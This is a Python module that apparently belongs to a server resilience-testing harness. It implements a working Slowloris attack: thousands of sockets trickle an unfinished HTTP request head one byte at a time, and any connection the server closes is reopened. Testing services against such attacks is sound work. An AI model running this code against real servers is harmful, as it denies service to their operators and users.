"""Slowloris: thousands of connections that send a request head one byte at a time and never
finish it. A connection berth closes is opened again, as a real attacker would."""

import errno
import selectors
import socket
import time

from attacks import Attack

HEAD = b"GET /v2/ HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\nX-Slow: "
# Each connection sends a byte about this often.
BYTE_EVERY = 1.0


class Slowloris(Attack):
    name = "slowloris"
    title = "slowloris"

    def attack(self, run, berth, deadline):
        count = run.slowloris_connections
        target = (berth.target.host, berth.target.port)
        sel = selectors.DefaultSelector()
        conns = {}  # socket -> bytes sent
        stats = {"opened": 0, "open_failed": 0, "closed_by_berth": 0, "answered": 0,
                 "bytes": 0}
        statuses = {}

        def open_one():
            s = socket.socket()
            s.setblocking(False)
            err = s.connect_ex(target)
            if err not in (0, errno.EINPROGRESS):
                s.close()
                stats["open_failed"] += 1
                return
            conns[s] = 0
            sel.register(s, selectors.EVENT_READ)
            stats["opened"] += 1

        def drop(s):
            sel.unregister(s)
            conns.pop(s, None)
            s.close()

        started = time.monotonic()
        for _ in range(count):
            open_one()
        opened_all = time.monotonic()
        # Reopening is bounded too: at most two more rounds of `count`.
        budget = 2 * count
        slot = 0
        while time.monotonic() < deadline:
            tick_end = time.monotonic() + 0.1
            # A tenth of the connections get their next byte each tick.
            socks = list(conns)
            share = max(1, len(socks) // int(BYTE_EVERY / 0.1))
            for s in socks[slot:slot + share]:
                sent = conns[s]
                byte = HEAD[sent:sent + 1] if sent < len(HEAD) else b"a"
                try:
                    if s.send(byte) == 1:
                        conns[s] = sent + 1
                        stats["bytes"] += 1
                except BlockingIOError:
                    pass  # still connecting, or the send buffer is full: next round
                except OSError:
                    drop(s)
                    stats["closed_by_berth"] += 1
                    if budget > 0:
                        budget -= 1
                        open_one()
            slot = slot + share if slot + share < len(socks) else 0
            for key, _ in sel.select(timeout=max(0, tick_end - time.monotonic())):
                s = key.fileobj
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if data.startswith(b"HTTP/"):
                    code = data.split()[1].decode(errors="replace")
                    statuses[code] = statuses.get(code, 0) + 1
                    stats["answered"] += 1
                drop(s)
                stats["closed_by_berth"] += 1
                if budget > 0:
                    budget -= 1
                    open_one()
        held = len(conns)
        for s in list(conns):
            drop(s)
        sel.close()
        notes = [
            f"{count} connections opened in {opened_all - started:.1f} s, "
            f"{stats['opened']} in all ({stats['open_failed']} failed to open), {held} held at the end",
            f"berth closed {stats['closed_by_berth']} (answered {stats['answered']}: "
            + (", ".join(f"{k}×{v}" for k, v in sorted(statuses.items())) or "none") + ")",
        ]
        return notes
